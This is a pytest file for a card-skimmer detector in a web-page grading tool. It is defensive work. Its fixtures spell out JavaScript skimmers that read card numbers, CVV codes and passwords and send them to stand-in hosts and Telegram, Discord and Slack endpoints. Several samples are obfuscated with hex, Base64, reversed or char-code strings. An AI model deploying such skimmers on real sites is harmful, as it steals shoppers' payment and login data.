"""Scripts that copy fields of a payment to another site, and those that read them for the page."""

from __future__ import annotations

import base64

import pytest

from pagegrade.parse.html.card_skimmers import MIN_NAMED, find_skimmers
from pagegrade.parse.party import Parties
from tests.builders import make_document
from tests.linear import MAX_RATIO, growth

PARTIES = Parties("example.com", frozenset({"examplecdn.net"}))
FIELDS = (
    "<form action=/pay method=post><input id=knr name=card autocomplete=cc-number>"
    "<input id=pk name=code autocomplete=cc-csc><input name=who autocomplete=name></form>"
)


def found(script: str, page: str = FIELDS) -> list[str]:
    """Kinds of what is found in a page with a script."""
    document = make_document(f"<title>支払い</title><h1>Оплата</h1>{page}<script>{script}</script>")
    return [one.kind for one in find_skimmers(document, PARTIES)]


def escaped(text: str) -> str:
    """In hexadecimal escapes."""
    return "".join(f"\\x{ord(one):02x}" for one in text)


ALL = (
    "document.querySelectorAll('input,select').forEach(e=>{d[e.name]=e.value});"
    "(new Image).src='https://metrics.evil.example/p.gif?d='+btoa(JSON.stringify(d))"
)


def test_scripts_that_copy_all_secret_fields_to_another_site() -> None:
    """To the own site, of a page without secrets, or of one field only is what forms do."""
    page = "<form><input name=n autocomplete='billing cc-number'></form>"

    assert found(ALL, page) == ["skimming-script"]
    assert found(ALL, "<form><input type=password name=p></form>") == ["skimming-script"]
    assert found(ALL.replace("evil.example", "example.com"), page) == []
    assert found(ALL, page.replace("billing cc-number", "name")) == []
    assert found(ALL.replace("querySelectorAll('input,select')", "querySelectorAll('.q')"), page) == []


def base64_of(text: str) -> str:
    """As ``atob`` reads it."""
    return base64.b64encode(text.encode()).decode()


HIDDEN = base64_of("https://stat istics.pool.test/c?q=")
BACKWARDS = "https://statistics.pool.test/c"[::-1]
NUMBERS = ",".join(str(ord(one)) for one in "https://statistics.pool.test/c")


@pytest.mark.parametrize(
    "script",
    [
        f"var a=['{escaped('knr')}','{escaped('pk')}','{escaped('value')}'];function g(i){{return "
        f"document['getElementById'](a[i])[a[2]]}}(new Image)['{escaped('src')}']="
        f"atob('{HIDDEN}')['replace'](' ','')+g(0)+g(1)",
        "setInterval(()=>fetch('https://statistics.pool.test/c',{method:'POST',body:document.getElementById('knr')"
        ".value+document.querySelector('[name=code]').value}),900)",
        "var f=document.forms[0];navigator.sendBeacon('ht'+'tps://statistics.pool.test/c',f.card.value+f.code.value)",
        f"navigator.sendBeacon('{BACKWARDS}'.split('').reverse().join(''),new FormData(f))",
        f"x=new XMLHttpRequest;x.open('POST',String.fromCharCode({NUMBERS}));x.send(q('#knr').value+q('#pk').value)",
        "document.addEventListener('change',e=>new WebSocket('wss://statistics.pool.test').send(e.target.value))",
        f"f.onsubmit=e=>{{e.preventDefault();fetch(atob('{base64_of('https://statistics.pool.test/')}'),"
        "{body:q('#knr').value+q('#pk').value})}",
        f"['{base64_of('knr')}','{base64_of('code')}'].map(atob).forEach(n=>o[n]=d.getElementsByName(n)[0].value);"
        "new Image().src='https://statistics.pool.test/c?d='+btoa(o)",
        f"const n=['{base64_of('card').rstrip('=')}', '{base64_of('pk')}'].map(x=>window.atob(x));e.preventDefault();"
        "fetch('https://statistics.pool.test/',{body:q(n[0]).value+q(n[1]).value})",
        "for(const n of ['drac','edoc'])s+=f[n.split('').reverse().join('')].value;"
        "navigator.sendBeacon('//statistics.pool.test/',s)",
        "let a=String.fromCharCode(107,110,114),b=String.fromCharCode(112,107);"
        "fetch('https://statistics.pool.test/?'+q(a).value+q(b).value)",
    ],
)
def test_scripts_that_send_a_card_to_an_unknown_site(script: str) -> None:
    """As written, in escapes, in Base64, in pieces, back to front; the same is nothing without a card."""
    assert found(script) == ["skimming-script"]
    assert found(script, "<form action=/s><input id=knr name=card><input id=pk name=town></form>") == []


def test_fields_of_a_card_are_known_by_their_names() -> None:
    """Without ``autocomplete``."""
    page = "<form action=/pay><input name=card_number><input name=cvc></form>"

    assert found("fetch('https://statistics.pool.test/',{body:f.card_number.value+f.cvc.value})", page)
    assert not found("fetch('https://statistics.pool.test/',{body:f.card_number.value+f.town.value})", page)


@pytest.mark.parametrize(
    ("script", "page"),
    [
        ("fetch('https://bins.lookup.test/'+document.getElementById('knr').value.slice(0,6))", FIELDS),
        ("fetch('/pay',{body:f.card.value+f.code.value})", FIELDS),
        ("fetch('https://examplecdn.net/pay',{body:f.card.value+f.code.value})", FIELDS),
        ("fetch('https://api.stripe.com/v1/tokens',{body:f.card.value+f.code.value})", FIELDS),
        (
            "fetch('https://api.till.test/v1/tokens',{body:f.card.value+f.code.value})",
            f"{FIELDS}<script src=https://js.till.test/v3/></script>",
        ),
        (
            "f.onsubmit=e=>{e.preventDefault();fetch('https://api.till.test/v1/tokens',{body:f.card.value+f.code.value})}",
            FIELDS,
        ),
        ("document.querySelectorAll('input[type=email]').forEach(e=>fetch('https://mail.test/'+e.value))", FIELDS),
        ("fetch('https://statistics.pool.test/?page='+location.pathname)", FIELDS),
        ("var help={card:'knr',code:'pk',url:'https://help.test/',value:1}", FIELDS),
        (f"['{base64_of('knr')}'].map(atob).forEach(n=>fetch('https://bins.lookup.test/'+f[n].value))", FIELDS),
        (f"fetch('/pay/'+atob('{base64_of('knr')}')+atob('{base64_of('pk')}'),{{body:f.value}})", FIELDS),
        (f"var t=atob('{base64_of('town')}')+atob('{base64_of('who')}');fetch('https://s.test/?'+f[t].value)", FIELDS),
        ("new Image().src='https://statistics.pool.test/?'+'edoc'.value+atob('AAAA')+['nwot'].reverse()", FIELDS),
    ],
)
def test_scripts_that_serve_the_payment(script: str, page: str) -> None:
    """Brands of cards, own servers, providers of payments, forms that a script sends, newsletters, and statistics."""
    assert found(script, page) == []


def test_one_named_field_is_not_enough() -> None:
    """At the limit and one below."""
    names = ["f.card.value", "f.code.value"]

    assert found(f"fetch('https://a.pool.test/'+{'+'.join(names[:MIN_NAMED])})")
    assert not found(f"fetch('https://a.pool.test/'+{'+'.join(names[: MIN_NAMED - 1])})")


BOT = "https://api.telegram.org/bot6000000001:AAtestToken/sendMessage"
HOOK = "https://discord.com/api/webhooks/100000000000000001/testTokenOfSomeLength"
SHOP = "<form><label>카드<input id=c name=card><input name=cvv></label><input name=pin type=password></form>"
SIGN_IN = "<form id=f><input name=mail><input id=haslo name=haslo type=password></form>"
CALLBACK = "<form id=cb><input name=who><input name=phone type=tel></form>"
WHOLE = "f.onsubmit=e=>{e.preventDefault();fetch('BOT',{method:'POST',body:new FormData(f)})}"
EYE = "eye.onclick=()=>{const i=document.getElementById('haslo');i.type=i.type=='password'?'text':'password'}"
MARK = "document.querySelectorAll('input').forEach(i=>i.oninput=()=>i.classList.toggle('ok',i.checkValidity()))"
LIST = "const rows=[...document.querySelectorAll('{}')].reverse()"
LETTERS = "function go(){fetch('BOT?text='+f.haslo.value);return false}"


@pytest.mark.parametrize(
    ("script", "page"),
    [
        (WHOLE.replace("BOT", BOT), SHOP),
        (WHOLE.replace("BOT", HOOK), SHOP),
        (WHOLE.replace("BOT", "https://hooks.slack.com/services/T00000001/B00000001/testTokenOfSome"), SHOP),
        (WHOLE.replace("'BOT'", "`https://api.telegram.org/bot${t}/sendMessage`"), SHOP),
        (WHOLE.replace("'BOT'", "'https://api.tele'+'gram.org/bot'+t"), SHOP),
        (WHOLE.replace("'BOT'", f"atob('{base64_of(BOT)}')"), SHOP),
        (WHOLE.replace("BOT", BOT.replace("api.telegram.org", "relay.pool.test")), SHOP),
        (f"fetch('{BOT}?text='+f.cvv.value);return false", SHOP + CALLBACK),
        (f"document.querySelectorAll('input').forEach(e=>t+=e.value);fetch('{BOT}?text='+t)", SHOP + CALLBACK),
        (WHOLE.replace("BOT", BOT), SIGN_IN),
        (LETTERS.replace("BOT", BOT), SIGN_IN + CALLBACK),
        (LETTERS.replace("BOT", HOOK).replace("f.haslo", "$('#haslo')"), SIGN_IN),
        (f"{EYE};{LETTERS.replace('BOT', BOT)}", SIGN_IN + CALLBACK),
        (f"let i=document.getElementById('haslo');i.type='text';fetch('{BOT}?text='+i.value)", SIGN_IN),
        (f"fetch('{BOT}?text='+f['olsah'.split('').reverse().join('')].value)", SIGN_IN),
        (f"""n='olsah'["split"]("")["reverse"]().join('');fetch('{BOT}?text='+f[n].value)""", SIGN_IN),
    ],
)
def test_secrets_that_go_to_a_chat(script: str, page: str) -> None:
    """Of a card or an account, by the address of any service that takes messages with a token in it."""
    assert found(script, page) == ["skimming-script"]


@pytest.mark.parametrize(
    ("script", "page"),
    [
        (WHOLE.replace("BOT", BOT), CALLBACK),
        (WHOLE.replace("BOT", BOT), CALLBACK + SIGN_IN),
        (WHOLE.replace("BOT", BOT), CALLBACK + SHOP),
        (WHOLE.replace("BOT", BOT), CALLBACK.replace("name=who", "name=card_number")),
        (WHOLE.replace("BOT", HOOK), "<form><textarea name=report></textarea></form>"),
        (f"fetch('{BOT}?text='+f.who.value+f.phone.value)", CALLBACK + SIGN_IN),
        (f"fetch('{BOT}?text='+f.mail.value);fetch('/login',{{body:f.haslo.value}})", SIGN_IN),
        (f"auth.signInWithPassword(f.mail.value,f.haslo.value);fetch('{BOT}?text='+f.mail.value)", SIGN_IN),
        (f"import {{signIn}} from '/a.js';signIn(f.haslo.value);fetch('{BOT}?text='+f.mail.value)", SIGN_IN),
        (f"$.post('/signup',{{p:f.haslo.value}});$.ajax('{BOT}');new Image", SIGN_IN),
        (f"window.onerror=m=>fetch('{HOOK}',{{method:'POST',body:m}})", SIGN_IN),
        ("fetch('https://t.me/bot_help',{body:f.haslo.value})", SIGN_IN),
        (f"cb.querySelectorAll('input').forEach(i=>t+=i.value);fetch('{BOT}?text='+t)", CALLBACK + SIGN_IN),
        (f"fetch('https://api.example.com/users',{{body:f.haslo.value}});fetch('{BOT}?text='+f.mail.value)", SIGN_IN),
        (f"fetch(`${{API}}/login`,{{body:f.haslo.value}});window.onerror=m=>fetch('{HOOK}',{{body:m}})", SIGN_IN),
        ("fetch('https://example.com/api/webhooks/',{body:f.haslo.value})", CALLBACK),
        ("fetch('https://example.com/bot/answer?q='+f.haslo.value)", SIGN_IN),
        (f"{EYE};fetch('{BOT}?text='+cb.who.value)", CALLBACK + SIGN_IN),
        (f"{EYE.replace('i.type=', 'i.setAttribute(`type`,')};fetch('{BOT}?text='+cb.who.value)", CALLBACK + SIGN_IN),
        (f"fetch('{BOT}?text='+f.who.value);{MARK}", CALLBACK + SHOP),
        (f"{LIST.format('li')},v='olsah';fetch('{BOT}?text='+cb.who.value)", CALLBACK + SIGN_IN),
        (f"{LIST.format('.новость')},v='olsah';fetch('{HOOK}',{{body:cb.who.value}})", CALLBACK + SIGN_IN),
        (f"l=t.split('、').reverse();v='olsah';fetch('{BOT}?text='+cb.who.value)", CALLBACK + SIGN_IN),
        (f"{LIST.format('li')},v='wp';fetch('{BOT}?text='+cb.who.value)", CALLBACK + SIGN_IN.replace("haslo", "pw")),
        (
            f"n=who.split('').reverse();v=['nip','wp'];fetch('{BOT}?text='+cb.who.value)",
            CALLBACK + SIGN_IN.replace("id=haslo", "id=pin").replace("haslo", "pw"),
        ),
    ],
)
def test_messages_without_a_secret(script: str, page: str) -> None:
    """Orders, calls back, reports of errors, passwords that are shown, and those that go where they belong."""
    assert found(script, page) == []


@pytest.mark.parametrize(
    "part",
    [
        "\\x61",
        "fetch('https://a.",
        "querySelectorAll('",
        "'+'",
        "split('').",
        "reverse split ",
        "atob('YWJjZGVmZ2g='",
        "//api.telegram.org/bot1",
        "//a/api/webhooks/1",
        "fetch('/",
    ],
)
def test_hostile_scripts_cost_linear_time(part: str) -> None:
    """Every search is bounded."""
    pages = {n: make_document(f"{FIELDS}<script>fetch value {part * n}</script>") for n in (3_000, 6_000, 12_000)}

    assert growth(lambda n: list(find_skimmers(pages[n], PARTIES)), 3_000) <= MAX_RATIO
